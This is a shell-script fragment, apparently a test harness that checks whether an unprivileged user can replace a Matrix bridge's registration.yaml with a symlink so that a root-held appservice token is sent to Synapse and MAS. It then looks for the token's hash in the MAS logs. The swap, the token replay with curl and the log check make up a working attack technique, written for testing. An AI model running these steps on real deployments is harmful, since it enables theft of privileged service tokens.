# The bridge's user puts a link to root's registration of another bridge in place of its own: its token is sent to Synapse and MAS.
prepare() { printf 'id: other\nas_token: %s\n' "$(cat "$kept/secret")" | tee $canary > $canaries/inside; }
strike() {
  as 1337 mv $bridge/registration.yaml $bridge/registration.kept
  as 1337 ln -s $canary $bridge/registration.yaml
}
# MAS writes down the beginning of the SHA-256 of each token that Synapse asks it about.
also_gained() {
  if docker logs matrix-mas 2>&1 | grep -q "_sha256\":\"$(sha256sum < "$kept/secret" | cut -c1-16)\""; then echo "root's token was sent to Synapse, which asked MAS about it"; fi
}
pretend() {
  # The log cannot be forgotten: another secret is sent, and then the secret is another one.
  printf 'header = "Authorization: Bearer %s"\n' "$(cat "$kept/secret")" | curl -s --config - -o /dev/null http://127.0.0.1:8008/_matrix/client/v3/account/whoami
}
forget() {
  head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n' > "$kept/secret"
  prepare
  outside > "$kept/outside"
}
clean() { as 1337 mv $bridge/registration.kept $bridge/registration.yaml; }
